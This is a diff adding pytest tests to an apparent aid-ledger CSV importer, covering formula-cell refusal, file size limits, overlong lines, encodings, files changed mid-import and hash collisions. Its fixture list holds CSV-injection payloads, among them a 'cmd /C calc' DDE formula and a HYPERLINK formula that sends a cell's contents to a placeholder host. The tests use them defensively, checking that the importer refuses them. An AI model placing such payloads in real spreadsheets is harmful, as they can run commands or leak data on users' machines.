@@ -421,3 +421,240 @@ def test_a_big_reimport_first_brings_the_statistics_of_what_it_reads_up_to_date(
     svc.importer.analyze_above = 10
     assert load(svc, "cases", tmp_path / "big.csv").new == 1
     assert svc.db.query(analyzed) == [("aidledger_events",), ("cases",)]
+
+
+# -- formula cells (CSV injection) ------------------------------------------------------------
+
+#: The payloads of CSV injection the spec names, with the column each goes in.
+INJECTED = [
+    ("name", '=HYPERLINK("http://x"&A1,"a")'),
+    ("account_name", "+SUM(1+1)*cmd|' /C calc'!A0"),
+    ("name", "-2+3"),
+    ("account_name", "@SUM(1)"),
+    ("name", "\t王秀兰"),
+    ("account_name", "\r王秀兰"),
+    ("case_id", "=1+2"),
+]
+
+
+def _csv_file(path: Path, columns: tuple[str, ...], rows: list[dict[str, str]]) -> Path:
+    import csv
+
+    with path.open("w", encoding="utf-8", newline="") as f:
+        writer = csv.DictWriter(f, columns)  # CRLF line ends: a CR in a cell is quoted
+        writer.writeheader()
+        writer.writerows(rows)
+    return path
+
+
+def test_formula_cells_are_refused_by_line_and_nothing_is_recorded(
+    svc: Services, tmp_path: Path
+) -> None:
+    import csv
+
+    from ledger.case import CASE_COLUMNS
+
+    with_staff(svc)
+    good = list(csv.DictReader((FIXTURES / "cases.csv").open(encoding="utf-8")))
+    rows = [
+        {**good[0], "case_id": f"F{n}", column: payload}
+        for n, (column, payload) in enumerate(INJECTED)
+    ]
+    path = _csv_file(tmp_path / "injected.csv", CASE_COLUMNS, [*good, *rows])
+    before = head(svc)
+    with pytest.raises(InputRefused) as refused:
+        load(svc, "cases", path)
+    found = [(p.line, p.column) for p in refused.value.problems]
+    # Every offending line (the one with a CR in a quoted cell counts as two lines).
+    lines = [7, 8, 9, 10, 11, 12, 14]
+    assert len(good) == 5 and found == [(n, c) for n, (c, _) in zip(lines, INJECTED, strict=True)]
+    assert all("formula" in p.reason for p in refused.value.problems)
+    assert "HYPERLINK" not in str(refused.value)  # a name is shown masked, as always
+    assert head(svc) == before
+    assert svc.db.query("SELECT COUNT(*) FROM cases") == [(0,)]
+
+
+def test_formula_cells_in_deaths_relatives_and_staff_files_are_refused(
+    svc: Services, tmp_path: Path
+) -> None:
+    from ledger.registry import DEATH_COLUMNS, RELATIVE_COLUMNS, STAFF_COLUMNS
+
+    with_staff(svc)
+    deaths = _csv_file(
+        tmp_path / "deaths.csv",
+        DEATH_COLUMNS,
+        [
+            {"id_number": "610102193505050050", "date_of_death": "2026-04-12", "source": "公安"},
+            {"id_number": "610102199006060067", "date_of_death": "2025-11-30", "source": "=1+2"},
+        ],
+    )
+    relatives = _csv_file(
+        tmp_path / "relatives.csv",
+        RELATIVE_COLUMNS,
+        [{"staff_id": "S001", "id_number": "610102193505050050", "relation": "@SUM(1)"}],
+    )
+    staff = _csv_file(
+        tmp_path / "staff.csv",
+        STAFF_COLUMNS,
+        [
+            {
+                "staff_id": "S008",
+                "name": "\t周建国",
+                "id_number": "610102198001010015",
+                "bank_account": "6217000000000000108",
+                "role": "caseworker",
+                "region_code": "610102",
+            }
+        ],
+    )
+    before = head(svc)
+    for kind, path, where in (
+        ("deaths", deaths, [(3, "source")]),
+        ("relatives", relatives, [(2, "relation")]),
+        ("staff", staff, [(2, "name")]),
+    ):
+        with pytest.raises(InputRefused) as refused:
+            load(svc, kind, path)
+        assert [(p.line, p.column) for p in refused.value.problems] == where, kind
+    assert head(svc) == before
+
+
+# -- size and bounded reading ---------------------------------------------------------------
+
+
+def test_a_file_above_the_size_limit_is_refused_before_it_is_read(
+    svc: Services, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from ledger.csvfile import InputFile
+    from ledger.errors import InputTooLarge
+
+    with_staff(svc)
+    path = tmp_path / "huge.csv"
+    with path.open("wb") as f:  # sparse: 5 GiB that take no room and would take long to read
+        f.truncate(5 * 2**30)
+
+    def read(_: object) -> None:
+        raise AssertionError("the file was read")
+
+    monkeypatch.setattr(InputFile, "_first_reading", read)
+    with pytest.raises(InputTooLarge) as refused:
+        load(svc, "cases", path)
+    message = str(refused.value)
+    assert str(path) in message
+    assert "5,368,709,120 bytes" in message and "4,294,967,296 bytes" in message
+    assert "AIDLEDGER_MAX_INPUT_BYTES" in message
+    with pytest.raises(InputTooLarge):
+        svc.importer.count_lines(path)  # the command line's progress bar asks first
+
+
+def test_the_size_limit_is_a_setting(cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:  # type: ignore[no-untyped-def]
+    assert cli("import", "staff", str(FIXTURES / "staff.csv"), "--by", "S007").exit_code == 0
+    monkeypatch.setenv("AIDLEDGER_MAX_INPUT_BYTES", "100")
+    result = cli("import", "cases", str(FIXTURES / "cases.csv"), "--by", "S001")
+    assert result.exit_code == 1
+    assert "cases.csv: refused" in result.output and "AIDLEDGER_MAX_INPUT_BYTES" in result.output
+    monkeypatch.setenv("AIDLEDGER_MAX_INPUT_BYTES", "100000")
+    assert cli("import", "cases", str(FIXTURES / "cases.csv"), "--by", "S001").exit_code == 0
+
+
+def test_a_file_of_many_bad_rows_lists_the_first_thousand_and_counts_the_rest(
+    svc: Services, tmp_path: Path
+) -> None:
+    with_staff(svc)
+    bad = fixture_row("C001").replace("610102195001010011", "610102195001010012")
+    path = case_rows(tmp_path, "bad.csv", *[bad.replace("C001", f"B{n}") for n in range(1500)])
+    with pytest.raises(InputRefused) as refused:
+        load(svc, "cases", path)
+    assert len(refused.value.problems) == 1000 and refused.value.more == 500
+    assert [p.line for p in refused.value.problems] == list(range(2, 1002))
+    assert "1,500 problem(s), the first 1,000 by line listed" in str(refused.value)
+
+
+def test_an_overlong_line_is_a_problem_not_a_line_held_whole(svc: Services, tmp_path: Path) -> None:
+    from ledger.csvfile import MAX_LINE
+
+    with_staff(svc)
+    path = case_rows(tmp_path, "long.csv", fixture_row("C001"), "x" * (MAX_LINE + 10))
+    with pytest.raises(InputRefused) as refused:
+        load(svc, "cases", path)
+    assert [(p.line, p.reason[:22]) for p in refused.value.problems] == [
+        (3, "line longer than 1,048")
+    ]
+
+
+def test_undecodable_text_after_a_bom_is_refused(svc: Services, tmp_path: Path) -> None:
+    with_staff(svc)
+    path = tmp_path / "bom.csv"
+    path.write_bytes(b"\xef\xbb\xbf" + (FIXTURES / "cases.csv").read_bytes() + b"\xff\xfe\n")
+    with pytest.raises(InputRefused, match="neither UTF-8 nor GB18030"):
+        load(svc, "cases", path)
+
+
+def test_a_file_rewritten_between_the_readings_of_an_import_is_not_written(
+    svc: Services, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from ledger.errors import InputChanged
+
+    with_staff(svc)
+    path = case_rows(tmp_path, "moving.csv", fixture_row("C001"))
+    original = svc.importer._check_cases
+
+    def check_then_rewrite(*args, **kwargs):  # type: ignore[no-untyped-def]
+        checked = original(*args, **kwargs)
+        # Same size, other content: the approver becomes the decider.
+        path.write_text(path.read_text(encoding="utf-8").replace("S002", "S001"), "utf-8")
+        return checked
+
+    monkeypatch.setattr(svc.importer, "_check_cases", check_then_rewrite)
+    with pytest.raises(InputChanged, match="changed while it was being imported"):
+        load(svc, "cases", path)
+    assert svc.db.query("SELECT COUNT(*) FROM cases") == [(0,)]
+
+
+def test_case_ids_that_share_a_hash_are_told_apart(
+    svc: Services, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The checks across rows keep each line's key as a 64-bit hash: lines whose hashes meet
+    are read again and compared whole, so two cases whose ids share a hash are two cases."""
+    from ledger import imports
+    from ledger.validation import LineKeys
+
+    class Colliding(LineKeys):
+        def __init__(self) -> None:
+            super().__init__(hash_of=lambda _: 7)
+
+    monkeypatch.setattr(imports, "LineKeys", Colliding)
+    with_staff(svc)
+    moved = fixture_row("C001").replace(",dibao,", ",tekun,")
+    path = case_rows(
+        tmp_path, "county.csv", fixture_row("C001"), fixture_row("C002"), fixture_row("C003")
+    )
+    assert load(svc, "cases", path).new == 3
+    # A case in two programs in one file is still found, and only it.
+    again = case_rows(
+        tmp_path,
+        "again.csv",
+        *[fixture_row(c).replace("C00", "N00") for c in ("C001", "C002")],
+        moved.replace("C001", "N001"),
+    )
+    with pytest.raises(InputRefused) as refused:
+        load(svc, "cases", again)
+    assert [(p.line, p.column) for p in refused.value.problems] == [(4, "program")]
+    assert "case N001 belongs to program dibao" in refused.value.problems[0].reason
+
+
+def test_a_register_file_repeating_a_line_writes_it_once(svc: Services, tmp_path: Path) -> None:
+    with_staff(svc)
+    lines = (FIXTURES / "deaths.csv").read_text(encoding="utf-8").splitlines()
+    path = tmp_path / "twice.csv"
+    path.write_text("\n".join([lines[0], lines[1], lines[2], lines[1]]) + "\n", encoding="utf-8")
+    summary = load(svc, "deaths", path)
+    assert (summary.rows, summary.new, summary.events) == (3, 2, 2)
+    other = tmp_path / "conflict.csv"
+    other.write_text(
+        "\n".join([lines[0], lines[1], lines[1].replace("2026-04-12", "2026-04-02")]) + "\n",
+        encoding="utf-8",
+    )
+    with pytest.raises(InputRefused) as refused:
+        load(svc, "deaths", other)
+    assert [(p.line, p.column) for p in refused.value.problems] == [(3, "id_number")]
